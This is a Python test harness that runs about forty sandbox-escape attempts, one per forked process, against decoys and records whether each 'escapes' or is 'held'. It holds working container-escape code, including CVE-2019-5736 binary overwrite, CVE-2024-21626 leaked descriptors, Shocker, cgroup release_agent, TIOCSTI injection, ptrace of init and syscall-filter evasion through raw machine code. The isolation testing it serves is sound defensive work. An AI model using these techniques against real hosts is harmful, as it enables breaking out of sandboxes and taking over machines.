"""Ways out of a crate, each a function that tries one and tells what it got; run in crates and, as controls, elsewhere.

It needs the standard library only, because it runs as an ordinary user, and on images. Each attempt runs in a process
of its own. It *escapes* if it returns what it got, and is *held* if it returns None or an OSError stops it. All
are aimed at decoys of the test's own, which a JSON file names.
"""

from __future__ import annotations

import fcntl
import os


def _is_open(descriptor: int) -> bool:
    try:
        fcntl.fcntl(descriptor, fcntl.F_GETFD)
    except OSError:
        return False
    return True


def open_descriptors() -> list[int]:
    """Return the descriptors that are open."""
    return [number for number in range(1 << 12) if _is_open(number)]


INHERITED = open_descriptors()
"""The descriptors that this process began with: before ctypes, whose library may keep a file open."""

# ruff: noqa: E402
import contextlib
import ctypes
import json
import mmap
import platform
import pty
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Decoys = dict[str, Any]
Attempt = Callable[[Decoys], "str | None"]

SECRET = "secret of the host"
LIBC = ctypes.CDLL(None, use_errno=True)
# Made before anything is tried: an attempt may lose sight of the libraries that make it.
LIBC.syscall.restype = ctypes.c_long

# asm/unistd_64.h of x86_64 and asm-generic/unistd.h; from 424 on they are the same.
NUMBERS = {
    "x86_64": {
        "add_key": 248, "bpf": 321, "capset": 126, "clone": 56, "keyctl": 250, "mount": 165, "open_by_handle_at": 304,
        "perf_event_open": 298, "ptrace": 101, "setns": 308, "umount2": 166, "unshare": 272, "userfaultfd": 323,
    },
    "aarch64": {
        "add_key": 217, "bpf": 280, "capset": 91, "clone": 220, "keyctl": 219, "mount": 40, "open_by_handle_at": 265,
        "perf_event_open": 241, "ptrace": 117, "setns": 268, "umount2": 39, "unshare": 97, "userfaultfd": 282,
    },
}.get(platform.machine(), {}) | {
    "io_uring_setup": 425, "open_tree": 428, "fsopen": 430, "clone3": 435, "mount_setattr": 442,
}  # fmt: skip

CLONE_PARENT, CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x8000, 0x20000, 0x2000000, 0x10000000
MS_BIND, MS_REMOUNT, MS_REC, MS_PRIVATE, MNT_DETACH = 4096, 32, 16384, 1 << 18, 2
AF_VSOCK = 40
PTRACE_ATTACH = 16
KEYCTL_JOIN, KEYCTL_SEARCH, SESSION_KEYRING = 1, 10, -3


def call(name: str, *arguments: int | bytes | ctypes.Array[Any] | None) -> int:
    """Make a system call.

    :raises OSError: the kernel refuses.
    """
    padded = [
        ctypes.c_long(argument) if isinstance(argument, int) else argument
        for argument in (*arguments, 0, 0, 0, 0, 0, 0)[:6]
    ]
    result = int(LIBC.syscall(ctypes.c_long(NUMBERS[name]), *padded))
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return result


def _first(attempts: Iterator[Callable[[], str | None]]) -> str | None:
    """Return what the first attempt that succeeds got; raise the error of the last one if none does."""
    last: OSError | None = None
    for attempt in attempts:
        try:
            got = attempt()
        except OSError as error:
            last = error
        else:
            if got is not None:
                return got
    if last is not None:
        raise last
    return None


def _secret(path: str, directory: int | None = None) -> str | None:
    descriptor = os.open(path, os.O_RDONLY, dir_fd=directory)
    try:
        return path if os.read(descriptor, 100).decode(errors="replace") == SECRET else None
    finally:
        os.close(descriptor)


# -- files -------------------------------------------------------------------------------------------


def read_a_hidden_file(decoys: Decoys) -> str | None:
    """Read a file in the home directory: by its path, and by every way round that /proc offers."""
    path = decoys["secret"]
    ways = [
        path, f"/proc/1/root{path}", f"/proc/self/root{path}", f"/proc/self/cwd/{'../' * 20}{path}",
        f"/proc/1/cwd/{'../' * 20}{path}", f"/proc/thread-self/root{path}",
    ]  # fmt: skip
    return _first(lambda way=way: _secret(way) for way in ways)  # type: ignore[misc]


def climb_out_of_a_chroot(decoys: Decoys) -> str | None:
    """Leave the root directory by one that is kept open while another becomes the root."""
    kept = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    directory = f"{decoys['scratch']}/deeper"
    os.mkdir(directory)
    os.chroot(directory)
    os.fchdir(kept)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return _secret(decoys["secret"])


def use_a_leaked_descriptor(decoys: Decoys) -> str | None:
    """Find a descriptor of a directory that leads to the host's files (CVE-2024-21626)."""

    def use(number: int) -> str | None:
        if not stat.S_ISDIR(os.fstat(number).st_mode):
            return None
        return _secret("../" * 50 + decoys["secret"].lstrip("/"), number) and f"descriptor {number}"

    return _first(lambda number=number: use(number) for number in INHERITED)  # type: ignore[misc]


def find_a_leaked_descriptor(decoys: Decoys) -> str | None:
    """Find any descriptor that was not given: for a program beyond 0, 1, 2, for a body one of the engine's."""
    engine = re.compile(r"(socket|mnt|net|pid|ipc|uts|user|cgroup):|anon_inode:\[pidfd\]|.*/cgroup/")
    found = []
    for number in INHERITED:
        with contextlib.suppress(OSError):
            link = os.readlink(f"/proc/self/fd/{number}")
            if number > 2 and (decoys["way"] == "program" or engine.match(link) or os.path.isdir(link)):
                found.append(f"{number} {link}")
    return ", ".join(found) or None


def open_what_is_mapped(decoys: Decoys) -> str | None:
    """Open what was mapped before the crate was entered, such as a body's C library, by /proc/self/map_files."""
    for name in os.listdir("/proc/self/map_files"):
        os.close(os.open(f"/proc/self/map_files/{name}", os.O_RDONLY))
        return name
    return None


def write_to_a_file_of_the_host(decoys: Decoys) -> str | None:
    """Write to a file that can be seen. Whether it reaches the host is seen there (:data:`EFFECTS`)."""
    Path(decoys["file"]).write_text("written by an attempt", encoding="ascii")
    os.chmod(decoys["file"], 0o777)
    return None


def overwrite_a_program_that_runs(decoys: Decoys) -> str | None:
    """Keep a running program open by /proc/pid/exe, and write to it when it has ended (CVE-2019-5736)."""
    with subprocess.Popen([decoys["program"], "1000"]) as process:
        kept = os.open(f"/proc/{process.pid}/exe", os.O_RDONLY)
        process.kill()
    writable = os.open(f"/proc/self/fd/{kept}", os.O_WRONLY | os.O_APPEND)
    os.write(writable, b"written by an attempt")
    return None


def open_by_handle(decoys: Decoys) -> str | None:
    """Open a file of the host's by its inode, whatever the root directory ("Shocker", Docker 0.11)."""
    handle = bytes.fromhex(decoys["handle"])

    def attempt(place: str) -> str | None:
        mount = os.open(place, os.O_RDONLY)
        descriptor = call("open_by_handle_at", mount, ctypes.create_string_buffer(handle, len(handle)), os.O_RDONLY)
        return place if os.read(descriptor, 100).decode() == SECRET else None

    places = ["/", decoys["shared"], os.path.dirname(decoys["file"])]
    return _first(lambda place=place: attempt(place) for place in places)  # type: ignore[misc]


# -- devices -----------------------------------------------------------------------------------------


def make_a_disk_node(decoys: Decoys) -> str | None:
    """Make the node of a disk."""
    places = [decoys["scratch"], "/dev", "/dev/shm", decoys["shared"]]

    def attempt(place: str) -> str:
        node = f"{place}/node-{os.getpid()}"
        os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(*decoys["disk"]))
        os.unlink(node)
        return node

    return _first(lambda place=place: attempt(place) for place in places)  # type: ignore[misc]


def read_a_disk_node(decoys: Decoys) -> str | None:
    """Read a disk by a node that is in a directory of the host's, and in /dev."""
    nodes = [decoys["node"], f"{decoys['shared']}/node", "/dev/" + decoys["disk_name"]]

    def attempt(node: str) -> str | None:
        with open(node, "rb") as disk:
            return node if disk.read(len(SECRET)).decode(errors="replace") == SECRET else None

    return _first(lambda node=node: attempt(node) for node in nodes)  # type: ignore[misc]


# -- processes ---------------------------------------------------------------------------------------


def see_a_process_of_the_host(decoys: Decoys) -> str | None:
    """Find a process by what is on its command line."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if decoys["token"] in Path(f"/proc/{name}/cmdline").read_text():
                return name
    return None


def signal_a_process_of_the_host(decoys: Decoys) -> str | None:
    """Send a signal to a pid of the host's, by number and by pidfd."""
    pid = decoys["process"]
    ways: list[Callable[[], None]] = [
        lambda: os.kill(pid, signal.SIGUSR1),
        lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGUSR1),
    ]
    return _first(lambda way=way: way() or f"signalled {pid}" for way in ways)  # type: ignore[misc]


def trace_a_process_of_the_host(decoys: Decoys) -> str | None:
    """Attach to a pid of the host's with ptrace(2)."""
    call("ptrace", PTRACE_ATTACH, decoys["process"])
    return "attached"


def trace_init(decoys: Decoys) -> str | None:
    """Attach to pid 1, look into its memory, its environment, its descriptors, or enter its namespaces."""
    pid = decoys["init"]
    ways: list[Callable[[], Any]] = [
        lambda: call("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), CLONE_NEWNS) == 0,
        lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR),
        lambda: Path(f"/proc/{pid}/environ").read_bytes(),
        lambda: os.readlink(f"/proc/{pid}/exe"),
        lambda: os.listdir(f"/proc/{pid}/root"),
        lambda: next(os.readlink(f"/proc/{pid}/fd/{number}") for number in [*os.listdir(f"/proc/{pid}/fd"), 0]),
        lambda: call("ptrace", PTRACE_ATTACH, pid) == 0,
    ]
    return _first(lambda way=way: str(way())[:100] for way in ways)  # type: ignore[misc]


def start_many_processes(decoys: Decoys) -> str | None:
    """Have more processes at once than the limit."""
    started = []
    try:
        for _ in range(decoys["too_many"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            started.append(pid)
    finally:
        for pid in started:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return f"{len(started)} at once"


def give_a_child_to_the_parent(decoys: Decoys) -> str | None:
    """Give a child to one's own parent, pytest or its launcher, which can't know of it, nor wait for it."""

    def cloned(name: str, *arguments: Any) -> str:
        pid = call(name, *arguments)
        if pid == 0:
            os._exit(0)
        return name

    three = ctypes.create_string_buffer(struct.pack("=5Q", CLONE_PARENT, 0, 0, 0, 0), 88)
    ways: list[Callable[[], str]] = [
        lambda: cloned("clone3", three, 88),
        lambda: cloned("clone", CLONE_PARENT | signal.SIGCHLD),
    ]
    return _first(iter(ways))


def leave_a_daemon(decoys: Decoys) -> str | None:
    """Leave a process behind that goes on when the test is over (:data:`EFFECTS`)."""
    shared = Path(decoys["shared"])
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for descriptor in range(3):
                os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
            os.closerange(3, 1 << 16)
            (shared / "daemon").write_text("started")
            for _ in range(3000):
                if (shared / "over").exists():
                    (shared / "daemon").write_text("survived")
                    break
                time.sleep(0.01)
        os._exit(0)
    while not (shared / "daemon").exists():
        time.sleep(0.01)
    return None


# -- networks and IPC --------------------------------------------------------------------------------


def _greeting(family: int, address: Any) -> str | None:
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect(address)
        return client.recv(100).decode() or None


def connect_to_an_abstract_socket(decoys: Decoys) -> str | None:
    """Reach a server of the host's by an abstract name (as in CVE-2020-15257)."""
    return _greeting(socket.AF_UNIX, "\0" + decoys["abstract"])


def connect_to_a_port_of_the_host(decoys: Decoys) -> str | None:
    """Reach a server on the host's loopback interface."""
    return _greeting(socket.AF_INET, ("127.0.0.1", decoys["port"]))


def connect_to_a_socket_file(decoys: Decoys) -> str | None:
    """Reach a server of the host's by a socket in a directory that can be seen."""
    return _greeting(socket.AF_UNIX, decoys["socket"])


def attach_shared_memory(decoys: Decoys) -> str | None:
    """Attach a System V segment of the host's by its key."""
    if (number := LIBC.shmget(decoys["key"], 0, 0)) == -1:
        raise OSError(ctypes.get_errno(), "shmget")
    return f"segment {number}"


def open_shared_memory(decoys: Decoys) -> str | None:
    """Open a POSIX segment of the host's."""
    return _secret(f"/dev/shm/{decoys['token']}")


def open_a_message_queue(decoys: Decoys) -> str | None:
    """Open a POSIX message queue of the host's."""
    if (number := LIBC.mq_open(f"/{decoys['token']}".encode(), os.O_RDONLY)) == -1:
        raise OSError(ctypes.get_errno(), "mq_open")
    return f"descriptor {number}"


def find_a_key(decoys: Decoys) -> str | None:
    """Find a key in the session's keyring: keyrings belong to no namespace."""
    name = ctypes.create_string_buffer(decoys["token"].encode())
    return f"key {call('keyctl', KEYCTL_SEARCH, SESSION_KEYRING, ctypes.create_string_buffer(b'user'), name, 0)}"


# -- the kernel's other doors ------------------------------------------------------------------------


def open_a_vsock(decoys: Decoys) -> str | None:
    """Make a socket that reaches the hypervisor."""
    return f"descriptor {socket.socket(AF_VSOCK, socket.SOCK_STREAM).detach()}"


def set_up_io_uring(decoys: Decoys) -> str | None:
    """Make a ring that submits calls which no filter sees."""
    return f"descriptor {call('io_uring_setup', 4, ctypes.create_string_buffer(120))}"


def load_a_bpf_map(decoys: Decoys) -> str | None:
    """Make a BPF map: an array of one element of 4 bytes."""
    return f"descriptor {call('bpf', 0, ctypes.create_string_buffer(struct.pack('=4I', 2, 4, 4, 1), 128), 128)}"


def open_a_perf_event(decoys: Decoys) -> str | None:
    """Count the task clock of the whole CPU 0."""
    attributes = ctypes.create_string_buffer(struct.pack("=IIQ", 1, 64, 0), 64)
    return f"descriptor {call('perf_event_open', attributes, -1, 0, -1, 0)}"


def open_a_userfaultfd(decoys: Decoys) -> str | None:
    """Handle page faults, so that the kernel can be stopped in a copy from user memory."""
    user_mode_only = 1
    return f"descriptor {call('userfaultfd', os.O_CLOEXEC | user_mode_only)}"


def type_into_the_terminal(decoys: Decoys) -> str | None:
    """Push characters into the controlling terminal (CVE-2017-5226), here one of its own."""
    os.setsid()
    _controller, terminal = pty.openpty()
    fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
    for character in b"id\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
    return os.read(terminal, 10).decode()


def make_a_terminal_useless(decoys: Decoys) -> str | None:
    """Give a terminal a line discipline by which nobody can read or write any more, here one of its own."""
    _controller, terminal = pty.openpty()
    no_discipline = 27  # linux/tty.h, N_NULL
    fcntl.ioctl(terminal, 0x5423, struct.pack("=i", no_discipline))  # TIOCSETD
    return "it has none"


def hold_up_who_opens_a_file(decoys: Decoys) -> str | None:
    """Take a lease on a file that can be seen: whoever opens it waits until that is broken."""
    file = os.open(decoys["file"], os.O_RDONLY)
    fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    return "leased"


def make_a_user_namespace(decoys: Decoys) -> str | None:
    """Gain every capability in a user namespace of one's own: by unshare(2), clone(2) and clone3(2)."""

    def cloned(name: str, *arguments: Any) -> str:
        pid = call(name, *arguments)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return name

    three = ctypes.create_string_buffer(struct.pack("=5Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD), 88)
    ways: list[Callable[[], str]] = [
        lambda: cloned("clone3", three, 88),
        lambda: cloned("clone", CLONE_NEWUSER | signal.SIGCHLD),
        lambda: (call("unshare", CLONE_NEWUSER) == 0 and "unshare") or "",
    ]
    return _first(iter(ways))


def mount_something(decoys: Decoys) -> str | None:
    """Mount, or take a mask off, with the old calls and the new."""
    with contextlib.suppress(OSError):
        call("unshare", CLONE_NEWNS)
    ways: list[Callable[[], Any]] = [
        lambda: call("umount2", b"/proc/sys", MNT_DETACH) == 0 and "/proc/sys is uncovered",
        lambda: call("mount", b"none", b"/proc/sys", None, MS_REMOUNT | MS_BIND, None) == 0 and "/proc/sys is writable",
        lambda: call("mount", b"none", b"/dev/shm", b"tmpfs", 0, None) == 0 and "a tmpfs",
        lambda: f"descriptor {call('fsopen', ctypes.create_string_buffer(b'tmpfs'), 0)} of a file system",
        lambda: f"descriptor {call('open_tree', -100, ctypes.create_string_buffer(b'/'), 1)} of a tree",
        lambda: call("mount_setattr", -100, ctypes.create_string_buffer(b"/sys"), 0, bytes(32), 32) == 0 and "/sys",
    ]
    return _first(iter(ways))


def set_a_release_agent(decoys: Decoys) -> str | None:
    """Have the kernel run a program as the host's root when a cgroup v1 is empty (CVE-2022-0492).

    The hierarchy is one of the attempt's own, by its name, and the agent is never run.
    """
    for flags in (CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP):
        with contextlib.suppress(OSError):
            call("unshare", flags)
            break
    call("mount", b"none", b"/", None, MS_REC | MS_PRIVATE, None)
    place = f"{decoys['scratch']}/hierarchy"
    os.mkdir(place)
    call("mount", b"none", place.encode(), b"cgroup", 0, f"none,name={decoys['token']}".encode())
    try:
        Path(place, "release_agent").write_text("/nonexistent/decoy")
        return Path(place, "release_agent").read_text()
    finally:
        call("umount2", place.encode(), 0)


def change_a_cgroup(decoys: Decoys) -> str | None:
    """Leave the own cgroup for another, or write to its limits (CVE-2023-25809), wherever one can be found."""
    places = [decoys["cgroup"]]
    lines = Path("/proc/self/mountinfo").read_text().splitlines()
    places += [line.split(" ")[4] for line in lines if " - cgroup" in line]
    mounted = f"{decoys['scratch']}/cgroup"
    os.mkdir(mounted)
    # Not in a control, which is on the host.
    for kind, data in (("cgroup2", None), ("cgroup", b"pids")) if decoys["way"] != "control" else ():
        with contextlib.suppress(OSError):
            call("mount", b"none", mounted.encode(), kind.encode(), 0, data)
            places.append(mounted)

    def attempt(place: str) -> str | None:
        # Only the decoy is written to, other files are just opened: as root on the host they are the machine's.
        if place == decoys["cgroup"]:
            Path(place, "cgroup.procs").write_text("0")
            if os.path.exists(f"{place}/pids.max"):
                Path(place, "pids.max").write_text("max")
        else:
            os.close(os.open(f"{place}/cgroup.procs", os.O_WRONLY))
        return place

    return _first(lambda place=place: attempt(place) for place in places)  # type: ignore[misc]


def write_a_sysctl(decoys: Decoys) -> str | None:
    """Set a sysctl of the network namespace that this process is in: of the crate's, or of the control's own."""
    path = Path("/proc/sys/net/ipv4/ip_default_ttl")
    before = path.read_text()
    path.write_text("99")
    after = path.read_text()
    path.write_text(before)
    return after.strip()


def open_kernel_files_for_writing(decoys: Decoys) -> str | None:
    """Open what acts on the whole machine when it is written to; nothing is written."""
    names = [
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
        "/proc/sys/fs/binfmt_misc/register", "/proc/irq/default_smp_affinity", "/proc/mtrr",
        "/proc/dynamic_debug/control",
        "/sys/kernel/uevent_helper", "/sys/fs/selinux/enforce", "/sys/power/state", "/sys/kernel/mm/ksm/run",
        "/sys/kernel/debug/clear_warn_once", "/dev/kmsg", "/dev/mem", "/dev/port", "/dev/fuse", "/dev/net/tun",
    ]  # fmt: skip

    def attempt(name: str) -> str:
        if decoys["way"] == "control":
            return (os.access(name, os.W_OK) and name) or ""  # the machine's own: looked at, never opened
        os.close(os.open(name, os.O_WRONLY | os.O_NONBLOCK))
        return name

    return _first(lambda name=name: attempt(name) or None for name in names)  # type: ignore[misc]


def read_masked_files(decoys: Decoys) -> str | None:
    """Read what shows the whole machine."""
    names = ["/proc/timer_list", "/proc/interrupts", "/proc/keys", "/proc/sched_debug", "/proc/latency_stats"]
    directories = ["/proc/acpi", "/proc/scsi", "/sys/firmware", "/sys/devices/virtual/powercap"]

    def attempt(name: str) -> str | None:
        if name in directories:
            return name if os.listdir(name) else None
        with open(name, "rb") as file:
            return name if file.read(1) else None

    return _first(lambda name=name: attempt(name) for name in (*names, *directories))  # type: ignore[misc]


# -- privileges --------------------------------------------------------------------------------------


def run_a_setuid_program(decoys: Decoys) -> str | None:
    """Become root by a program of root's that is set-user-id, as a user who is not."""
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(decoys["user"], decoys["user"], decoys["user"])
        os.setresuid(decoys["user"], decoys["user"], decoys["user"])
    found = subprocess.run([decoys["setuid"], "-u"], capture_output=True, text=True, check=True).stdout.strip()
    return f"user {found}" if found == "0" else None


def hold_inherited_capabilities(decoys: Decoys) -> str | None:
    """Have capabilities left in the inheritable or the ambient set (CVE-2022-27649)."""
    status = Path("/proc/self/status").read_text()
    found = dict(re.findall(r"^(CapInh|CapAmb):\s*(\w+)$", status, re.MULTILINE))
    return str(found) if any(int(value, 16) for value in found.values()) else None


def act_as_another_abi(decoys: Decoys) -> str | None:
    """Make a call by i386's numbers, which a filter for x86_64 would take for others."""
    if platform.machine() != "x86_64":
        return None
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3")  # push rbx; mov eax, 20; int 0x80; pop rbx; ret
    getpid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof((ctypes.c_char * mmap.PAGESIZE).from_buffer(code)))
    return "getpid" if getpid() == os.getpid() else None


ATTEMPTS: dict[str, Attempt] = {
    function.__name__: function
    for function in (
        read_a_hidden_file, climb_out_of_a_chroot, use_a_leaked_descriptor, find_a_leaked_descriptor,
        open_what_is_mapped, write_to_a_file_of_the_host, overwrite_a_program_that_runs, open_by_handle,
        make_a_disk_node, read_a_disk_node, see_a_process_of_the_host, signal_a_process_of_the_host,
        trace_a_process_of_the_host, trace_init, start_many_processes, give_a_child_to_the_parent, leave_a_daemon,
        connect_to_an_abstract_socket,
        connect_to_a_port_of_the_host, connect_to_a_socket_file, attach_shared_memory, open_shared_memory,
        open_a_message_queue, find_a_key, open_a_vsock, set_up_io_uring, load_a_bpf_map, open_a_perf_event,
        open_a_userfaultfd, type_into_the_terminal, make_a_terminal_useless, hold_up_who_opens_a_file,
        make_a_user_namespace, mount_something, set_a_release_agent,
        change_a_cgroup, write_a_sysctl, open_kernel_files_for_writing, read_masked_files, run_a_setuid_program,
        hold_inherited_capabilities, act_as_another_abi,
    )
}  # fmt: skip

EFFECTS = frozenset({"write_to_a_file_of_the_host", "overwrite_a_program_that_runs", "leave_a_daemon"})
"""Attempts that can't tell whether they succeed: it is seen on the host."""


def attempt_all(decoys: Decoys, names: list[str]) -> dict[str, list[str]]:
    """Make attempts, each in a process of its own; return what became of each: a word and what there is to say."""
    scratch = Path(decoys["scratch"])
    scratch.mkdir(parents=True, exist_ok=True)
    return {name: _attempt(ATTEMPTS[name], {**decoys, "scratch": str(scratch / name)}) for name in names}


def _attempt(attempt: Attempt, decoys: Decoys) -> list[str]:
    os.mkdir(decoys["scratch"])
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(reading)
            try:
                got = attempt(decoys)
                answer = ["held", "nothing"] if got is None else ["escaped", got]
            except OSError as error:
                answer = ["held", str(error)]
            except BaseException as error:  # noqa: BLE001 - a fault of the attempt's, to be seen as one
                answer = ["error", repr(error)]
            os.write(writing, json.dumps(answer).encode())
        finally:
            os._exit(0)
    os.close(writing)
    with open(reading, "rb") as file:
        received = file.read()
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGSYS:
        return ["held", "killed by SIGSYS"]
    if not received:
        return ["error", f"no answer, wait status {status}"]
    outcome: list[str] = json.loads(received)
    return outcome


def prepare(token: str) -> None:
    """Have what may be inherited: a key in a session's keyring and, as root, an inheritable and ambient capability."""
    call("keyctl", KEYCTL_JOIN, ctypes.create_string_buffer(token.encode()))
    user, name = ctypes.create_string_buffer(b"user"), ctypes.create_string_buffer(token.encode())
    call("add_key", user, name, ctypes.create_string_buffer(b"secret"), 6, SESSION_KEYRING)
    if os.geteuid() == 0:
        net_raw, everything = 13, 0xFFFFFFFF
        header = ctypes.create_string_buffer(struct.pack("=Ii", 0x20080522, 0))
        status = Path("/proc/self/status").read_text()
        permitted = int(re.findall(r"CapPrm:\s*(\w+)", status)[0], 16)
        low, high = permitted & everything, permitted >> 32
        sets = struct.pack("=6I", low, low, 1 << net_raw, high, high, 0)
        call("capset", header, ctypes.create_string_buffer(sets))
        if LIBC.prctl(47, 2, net_raw, 0, 0):  # PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE
            raise OSError(ctypes.get_errno(), "prctl")


def main() -> None:
    """Make the attempts that the command line names, aimed at the decoys in the file that it names first.

    With ``--prepare TOKEN`` in front, execute the rest of the command line with what may be inherited.
    """
    if sys.argv[1] == "--prepare":
        prepare(sys.argv[2])
        os.execv(sys.argv[3], sys.argv[3:])
    decoys = json.loads(Path(sys.argv[1]).read_text())
    if "jail" in decoys:
        os.chroot(decoys["jail"])
        os.chdir("/")
    results = json.dumps(attempt_all(decoys, sys.argv[2:]))
    sys.stdout.write(results + "\n")


if __name__ == "__main__":
    main()
